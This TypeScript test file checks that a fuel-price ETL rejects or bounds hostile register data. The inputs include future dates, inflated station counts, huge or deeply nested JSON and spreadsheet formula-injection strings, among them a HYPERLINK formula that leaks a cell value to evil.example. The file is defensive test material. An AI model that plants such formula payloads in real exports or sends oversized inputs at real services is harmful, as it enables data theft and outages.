// A register written to hurt (issue 38): dated in the future, with texts and nesting of any size, five times as many
// stations, formulas in its names. Through the real ETL (over HTTP where the reading is the point): what it may not
// publish is refused with nothing written and /v1/status saying why; what it may publish is bounded and safe.
import { cpSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { SNAPSHOT_DOWNLOADS_DIR } from '../core/data-dir/layout.js';
import { type Manifest, readManifest } from '../core/data-dir/manifest.js';
import { readRefreshRecord } from '../core/data-dir/refresh-record.js';
import { openScratchDatabase, sqlPath } from '../core/duckdb.js';
import { contents, copyOf } from '../test/support/data-dir-files.js';
import { MINISTRY_FIXTURES } from '../test/support/data-paths.js';
import { fixtureDataDir } from '../test/support/datasets.js';
import { fixtureSliceSource, nationalList } from '../test/support/ministry-files.js';
import { startMinistryFixtureServer } from '../test/support/ministry-fixture-server.js';
import { startTestServer, type TestServer } from '../test/support/test-server.js';
import { GuardRejection } from './guards.js';
import { refreshSnapshot } from './refresh.js';
import { createMinistryHttpSource, SourceError } from './source/ministry-http-source.js';
import type { RawStation, RawStationList } from './source/source.js';

const NOW = new Date('2026-08-22T18:00:00Z');
/** What OWASP lists as the start of a cell a spreadsheet may run as a formula. */
const FORMULA_LEADS = ['=', '+', '-', '@', '\t', '\r'];
/** A true register after the data served (15:53:31), before NOW. */
const TRUE_FECHA = '22/08/2026 19:30:00';

const withoutRecord = (files: Record<string, string>) => {
  const { 'refresh-status.json': _record, ...rest } = files;
  return rest;
};

/** The slice dated `fecha`, its records changed by `change`. */
function slice(fecha: string, change: (records: RawStation[]) => RawStation[] = (records) => records): RawStationList {
  const list = nationalList();
  return { ...list, Fecha: fecha, ListaEESSPrecio: change(list.ListaEESSPrecio) };
}

/** Station 4375 (Abengibre) of the slice, with `fields` in place of its own. */
const at4375 =
  (fields: Record<string, string>) =>
  (records: RawStation[]): RawStation[] =>
    records.map((record) => (record.IDEESS === '4375' ? { ...record, ...fields } : record));

let server: TestServer | undefined;
afterEach(async () => {
  await server?.close();
  server = undefined;
});

/** A refresh of a copy of the fixtures' DATA_DIR from `source`, with what it held before and what it logged. */
async function refreshCopy(source: Parameters<typeof refreshSnapshot>[0]['source'], prefix: string) {
  const dataDir = copyOf(fixtureDataDir(), prefix);
  const before = withoutRecord(contents(dataDir));
  const served = (readManifest(dataDir) as Manifest).snapshot;
  const logged: Record<string, unknown>[] = [];
  const outcome = await refreshSnapshot({ source, dataDir, now: NOW, log: (event) => logged.push(event) }).then(
    () => null,
    (error: unknown) => error,
  );
  const unchanged = () => {
    expect(withoutRecord(contents(dataDir))).toEqual(before);
    expect(readManifest(dataDir)?.snapshot).toBe(served);
  };
  return { dataDir, outcome, logged, unchanged };
}

describe('a register dated ahead of the clock', () => {
  it.each([
    ['21/05/2027 8:00:00', '2027-05-21T06:00:00Z'],
    ['31/12/9999 0:00:00', '9999-12-30T23:00:00Z'],
    ['08/12/2026 19:30:00', '2026-12-08T18:30:00Z'], // 12 August with its day and month swapped
  ])(
    '%s is refused with its own category, nothing written, and the next true register published',
    async (fecha, time) => {
      const { dataDir, outcome, unchanged } = await refreshCopy(
        fixtureSliceSource(() => slice(fecha)),
        'fuel-ahead-',
      );
      expect(outcome).toMatchObject({ name: 'FutureSourceError' });
      unchanged();
      expect(readRefreshRecord(dataDir)).toMatchObject({
        succeeded: false,
        category: 'source_future_dated',
        source_data_time: time,
      });
      await refreshSnapshot({ source: fixtureSliceSource(() => slice(TRUE_FECHA)), dataDir, now: NOW });
      expect(readManifest(dataDir)?.source_time).toBe('2026-08-22T17:30:00Z');
      expect(readRefreshRecord(dataDir)).toMatchObject({ succeeded: true, category: null });
    },
  );

  it('is said by a reader in /v1/status, in both languages, until the true register is served', async () => {
    const dataDir = copyOf(fixtureDataDir(), 'fuel-ahead-reader-');
    server = await startTestServer({ config: { dataDir }, start: true });
    const served = server.store.current()?.version;
    const ahead = fixtureSliceSource(() => slice('21/05/2027 8:00:00'));
    await expect(refreshSnapshot({ source: ahead, dataDir, now: NOW })).rejects.toMatchObject({
      name: 'FutureSourceError',
    });
    const status = async (language: string) =>
      (
        await server?.json<{ data: Record<string, unknown> }>('/v1/status', {
          headers: { 'Accept-Language': language },
        })
      )?.body.data;
    await expect
      .poll(() => status('en'), { timeout: 10_000 })
      .toMatchObject({
        last_refresh: {
          succeeded: false,
          error_category: 'source_future_dated',
          error: expect.stringContaining('ahead of the clock'),
          source_data_time: '2027-05-21T06:00:00Z',
        },
      });
    expect(await status('es')).toMatchObject({
      last_refresh: { error: expect.stringContaining('posterior a la hora actual') },
    });
    expect(server.store.current()?.version).toBe(served);
    await refreshSnapshot({ source: fixtureSliceSource(() => slice(TRUE_FECHA)), dataDir, now: NOW });
    await expect
      .poll(() => status('en'), { timeout: 10_000 })
      .toMatchObject({ last_refresh: { succeeded: true, error_category: null } });
    expect(server.store.current()?.sourceTime).toBe('2026-08-22T17:30:00Z');
  });
});

describe('a register with five times the stations', () => {
  it('is refused as a drop is, nothing written', async () => {
    const fivefold = (records: RawStation[]) =>
      [0, 1, 2, 3, 4].flatMap((k) => records.map((r) => ({ ...r, IDEESS: String(Number(r.IDEESS) + k * 1_000_000) })));
    const { dataDir, outcome, unchanged } = await refreshCopy(
      fixtureSliceSource(() => slice(TRUE_FECHA, fivefold)),
      'fuel-fivefold-',
    );
    expect(outcome).toBeInstanceOf(GuardRejection);
    expect(String(outcome)).toMatch(/2315 stations against 463 .*a rise of more than 20 %/);
    unchanged();
    expect(readRefreshRecord(dataDir)).toMatchObject({ succeeded: false, category: 'guard_rejected' });
  });
});

/** The ministry stand-in answering `body` as its current list (the slice's Listados beside it). */
async function serveRegister(body: string) {
  const dir = mkdtempSync(join(tmpdir(), 'fuel-hostile-register-'));
  cpSync(join(MINISTRY_FIXTURES, 'Listados'), join(dir, 'Listados'), { recursive: true });
  writeFileSync(join(dir, 'EstacionesTerrestres.json'), body);
  const fixture = await startMinistryFixtureServer({ dataDir: dir });
  return { source: createMinistryHttpSource({ baseUrl: fixture.baseUrl, retries: 1 }), close: () => fixture.close() };
}

describe('a register with texts and nesting of any size, read over HTTP', () => {
  const MB = 1024 * 1024;

  it('cuts a 4 MB name to the 200 characters the contract promises, counted in the log; detail stays small', async () => {
    const name = `ESTACION ${'A'.repeat(4 * MB)}`;
    const ministry = await serveRegister(JSON.stringify(slice(TRUE_FECHA, at4375({ Rótulo: name }))));
    try {
      const { dataDir, outcome, logged } = await refreshCopy(ministry.source, 'fuel-long-name-');
      expect(outcome).toBeNull();
      expect(logged.find((event) => event.event === 'refresh_published')).toMatchObject({
        truncated_texts: 1,
        truncated_text_examples: [{ id: 4375, field: 'Rótulo', chars: name.length }],
      });
      server = await startTestServer({ config: { dataDir }, start: true });
      const detail = await server.request('/v1/stations/4375'); // a 200 is checked against the contract
      const text = await detail.text();
      expect(detail.status).toBe(200);
      expect(text.length).toBeLessThan(10_000);
      const station = (JSON.parse(text) as { data: { name: string; prices: Record<string, number> } }).data;
      expect(station.name).toBe(`ESTACION ${'A'.repeat(190)}…`);
      expect(Object.keys(station.prices).length).toBeGreaterThan(0);
    } finally {
      await ministry.close();
    }
  });

  it('keeps every text of a station within its bound, however long the register wrote it', async () => {
    const long = (c: string) => c.repeat(8 * MB);
    const fields: Record<string, string> = {
      Dirección: long('D'),
      Localidad: 'L'.repeat(300),
      'C.P.': '0225000000000',
      Horario: `L-D: 24H ${long('H')}`,
    };
    const markers = Object.fromEntries(Object.keys(fields).map((key) => [key, `@${key}@`]));
    let body = JSON.stringify(slice(TRUE_FECHA, at4375(markers)));
    for (const [key, value] of Object.entries(fields)) body = body.replace(`"@${key}@"`, `"${value}"`);
    const ministry = await serveRegister(body);
    try {
      const { dataDir, outcome, logged } = await refreshCopy(ministry.source, 'fuel-long-texts-');
      expect(outcome).toBeNull();
      const published = logged.find((event) => event.event === 'refresh_published');
      expect(published?.truncated_text_examples).toEqual([
        { id: 4375, field: 'Dirección', chars: 8 * MB },
        { id: 4375, field: 'Localidad', chars: 300 },
        { id: 4375, field: 'C.P.', chars: 13 },
        { id: 4375, field: 'Horario', chars: 8 * MB + 9 },
      ]);
      server = await startTestServer({ config: { dataDir }, start: true });
      const { body: detail } = await server.json<{ data: Record<string, unknown> }>('/v1/stations/4375');
      expect(detail.data).toMatchObject({
        address: `${'D'.repeat(299)}…`,
        locality: `${'L'.repeat(199)}…`,
        postal_code: '022500000…',
        hours: `L-D: 24H ${'H'.repeat(290)}…`,
      });
    } finally {
      await ministry.close();
    }
  });

  it.each([
    [
      'a record nested 100,000 deep',
      (list: string) =>
        list.replace('"IDEESS":"4375"', `"IDEESS":"4375","x":${'['.repeat(100_000)}${']'.repeat(100_000)}`),
      'too-deep',
    ],
    [
      'a Nota nested 100,000 deep',
      (list: string) => list.replace(/"Nota":"[^"]*"/, `"Nota":${'['.repeat(100_000)}${']'.repeat(100_000)}`),
      'too-deep',
    ],
    ['a 50 MB Nota', (list: string) => list.replace(/"Nota":"[^"]*"/, `"Nota":"${'N'.repeat(50 * MB)}"`), 'too-large'],
    [
      'a record of 20,000 keys',
      (list: string) =>
        list.replace(
          '"IDEESS":"4375"',
          `"IDEESS":"4375",${Array.from({ length: 20_000 }, (_, i) => `"k${i}":"v"`).join(',')}`,
        ),
      'too-large',
    ],
  ])('refuses %s as unreadable, nothing written', async (_case, make, kind) => {
    const ministry = await serveRegister(make(JSON.stringify(slice(TRUE_FECHA))));
    try {
      const { dataDir, outcome, unchanged } = await refreshCopy(ministry.source, 'fuel-deep-');
      expect(outcome).toBeInstanceOf(SourceError);
      expect((outcome as SourceError).kind).toBe(kind);
      unchanged();
      expect(readRefreshRecord(dataDir)).toMatchObject({ succeeded: false, category: 'source_invalid' });
    } finally {
      await ministry.close();
    }
  });
});

describe('a register whose names are formulas', () => {
  it('never writes a CSV text cell that a spreadsheet would run; numbers and the other formats stay as they are', async () => {
    const formulas = {
      Rótulo: '=HYPERLINK("http://evil.example/?d="&A1,"Pulse aquí")',
      Dirección: '=1+2";=1+2', // OWASP's example: a quote and a separator inside
      Localidad: '@SUM(1+1)',
      Horario: '+L-D: 24H',
    };
    const { dataDir, outcome } = await refreshCopy(
      fixtureSliceSource(() => slice(TRUE_FECHA, at4375(formulas))),
      'fuel-formulas-',
    );
    expect(outcome).toBeNull();
    const snapshot = join(dataDir, (readManifest(dataDir) as Manifest).snapshot, SNAPSHOT_DOWNLOADS_DIR);
    const db = await openScratchDatabase();
    try {
      const rows = async (sql: string) =>
        (await db.connection.runAndReadAll(sql)).getRowObjectsJS() as Record<string, string | null>[];
      const csv = (file: string) => `read_csv(${sqlPath(join(snapshot, file))}, all_varchar = true, header = true)`;
      const [station] = await rows(`SELECT * FROM ${csv('stations.csv')} WHERE id = '4375'`);
      expect(station).toMatchObject({
        name: `'${formulas.Rótulo}`,
        address: `'${formulas.Dirección}`,
        locality: `'${formulas.Localidad}`,
        hours: `'${formulas.Horario}`,
      });
      for (const file of ['stations.csv', 'daily-prices.csv.gz']) {
        const typed = await rows(`DESCRIBE SELECT * FROM read_csv(${sqlPath(join(snapshot, file))})`);
        const texts = typed.filter((c) => c.column_type === 'VARCHAR').map((c) => c.column_name as string);
        for (const row of await rows(`SELECT ${texts.join(', ')} FROM ${csv(file)}`)) {
          for (const [column, cell] of Object.entries(row)) {
            expect(FORMULA_LEADS.includes(cell?.[0] ?? ''), `${file} ${column} ${cell}`).toBe(false);
          }
        }
      }
      // A negative longitude is a number, written as one.
      const [west] = await rows(`SELECT lng FROM ${csv('stations.csv')} WHERE id = '4375'`);
      expect(west?.lng).toMatch(/^-1\.\d+$/);
      const json = JSON.parse(readFileSync(join(snapshot, 'stations.json'), 'utf8')) as {
        stations: { id: number; name: string }[];
      };
      expect(json.stations.find((s) => s.id === 4375)?.name).toBe(formulas.Rótulo);
      const dictionary = JSON.parse(readFileSync(join(snapshot, 'datapackage.json'), 'utf8')) as {
        resources: { name: string; description: string }[];
      };
      for (const name of ['stations-csv', 'daily-prices-csv']) {
        expect(dictionary.resources.find((r) => r.name === name)?.description).toContain(
          "is written with an apostrophe (') before it",
        );
      }
    } finally {
      db.close();
    }
  });
});
